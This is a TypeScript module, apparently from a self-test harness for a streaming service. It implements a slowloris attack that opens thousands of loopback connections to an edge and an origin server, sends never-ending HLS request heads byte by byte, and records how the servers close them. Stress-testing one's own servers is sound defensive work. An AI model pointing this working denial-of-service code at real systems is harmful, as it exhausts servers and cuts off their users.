/**
 * Attack 3: slow-header connections (slowloris). 5,000 connections to the
 * edge's port and, at the same time, 5,000 straight to the origin's port
 * (as someone who found the origin's address would), from 50 addresses
 * each (127.3.0.x to the edge, 127.3.1.x to the origin: 100 connections per
 * address). Each sends the start of a request, then one byte of an endless
 * header line every 2 s, never the blank line that ends the head. A closed
 * connection is opened again at once (at most 1,000 new connections a
 * second per target), so the attacker holds as many as the server lets it.
 *
 * Reported per target: connections opened, most open at once, how long the
 * server let them live, and how it ended them (its answer's status, a
 * reset, or a silent close).
 */
import net from 'node:net';
import type { Attack, AttackResult, AttackSetup } from './attack-types.js';
import { Counts, attackAddress, targetOf, type Target } from './attack-net.js';

const PER_TARGET = 5000;
const ADDRESSES_PER_TARGET = 50;
const TRICKLE_MS = 2000;
const TICK_MS = 100;
const OPENS_PER_S = 1000;

interface SlowTarget {
  name: 'edge' | 'origin';
  target: Target;
  /** Third octet of its addresses. */
  octet: number;
  open: Set<net.Socket>;
  opened: number;
  maxOpen: number;
  ends: Counts;
  lifetimesMs: number[];
  /** Sockets still to (re)open. */
  wanted: number;
  bytesTrickled: number;
}

function openOne(t: SlowTarget, spaceId: string, untilMs: number, index: number): void {
  const localAddress = attackAddress(3, t.octet * 256 + (index % ADDRESSES_PER_TARGET) + 1);
  const socket = net.connect({ host: t.target.host, port: t.target.port, localAddress });
  const openedAt = Date.now();
  t.opened++;
  t.open.add(socket);
  t.maxOpen = Math.max(t.maxOpen, t.open.size);
  let answer = '';
  let errorCode = '';
  socket.on('connect', () => socket.write(`GET /hls/${spaceId}/live.m3u8 HTTP/1.1\r\nHost: ${t.target.host}\r\nUser-Agent: tribune-attack\r\nX-Slow: `));
  socket.on('data', (chunk: Buffer) => {
    if (answer.length < 64) answer += chunk.toString('latin1', 0, 64);
  });
  socket.on('error', (error: NodeJS.ErrnoException) => {
    errorCode = error.code ?? 'error';
  });
  socket.on('close', () => {
    t.open.delete(socket);
    if (Date.now() >= untilMs) return;
    t.lifetimesMs.push(Date.now() - openedAt);
    const status = /^HTTP\/1\.[01] (\d{3})/.exec(answer)?.[1];
    t.ends.add(status ? `answered ${status}` : errorCode ? `error:${errorCode}` : 'closed without an answer');
    t.wanted++;
  });
}

function summary(t: SlowTarget): Record<string, unknown> {
  const sorted = [...t.lifetimesMs].sort((a, b) => a - b);
  const at = (p: number): number => Math.round(sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))] ?? NaN);
  return {
    connections_opened: t.opened,
    most_open_at_once: t.maxOpen,
    open_at_the_end: t.open.size,
    closed_by_the_server: sorted.length,
    lifetime_ms: { p50: at(50), p99: at(99), max: Math.round(sorted.at(-1) ?? NaN) },
    ends: t.ends.sorted(10),
    bytes_trickled: t.bytesTrickled,
  };
}

export const slowHeadersAttack: Attack = {
  name: 'slow-headers',
  number: 3,
  async run(setup: AttackSetup, untilMs: number): Promise<AttackResult> {
    const make = (name: 'edge' | 'origin', url: string, octet: number): SlowTarget => ({
      name,
      target: targetOf(url),
      octet,
      open: new Set(),
      opened: 0,
      maxOpen: 0,
      ends: new Counts(),
      lifetimesMs: [],
      wanted: PER_TARGET,
      bytesTrickled: 0,
    });
    const targets = [make('edge', setup.edgeUrl, 0), make('origin', setup.originUrl, 1)];
    let tick = 0;
    await new Promise<void>((resolve) => {
      const timer = setInterval(() => {
        if (Date.now() >= untilMs) {
          clearInterval(timer);
          return resolve();
        }
        tick++;
        for (const t of targets) {
          // (Re)open what was closed, at a bounded rate.
          const opens = Math.min(t.wanted, Math.ceil((OPENS_PER_S * TICK_MS) / 1000));
          for (let i = 0; i < opens; i++) openOne(t, setup.spaceId, untilMs, t.opened);
          t.wanted -= opens;
          // One byte of the endless header line per connection every TRICKLE_MS, spread over the ticks.
          const slices = TRICKLE_MS / TICK_MS;
          let i = 0;
          for (const socket of t.open) {
            if (i++ % slices === tick % slices && socket.writable && !socket.connecting) {
              socket.write('a');
              t.bytesTrickled++;
            }
          }
        }
      }, TICK_MS);
    });
    for (const t of targets) for (const socket of t.open) socket.destroy();
    const answers = new Counts();
    for (const t of targets) for (const [end, n] of Object.entries(t.ends.record)) answers.add(`${t.name} ${end}`, n);
    return {
      sent: targets.reduce((sum, t) => sum + t.opened, 0),
      answers: answers.sorted(),
      details: {
        unit: 'TCP connections opened (each a request head that never ends)',
        per_target: PER_TARGET,
        addresses_per_target: ADDRESSES_PER_TARGET,
        trickle_every_ms: TRICKLE_MS,
        edge: summary(targets[0] as SlowTarget),
        origin_direct: summary(targets[1] as SlowTarget),
      },
    };
  },
};
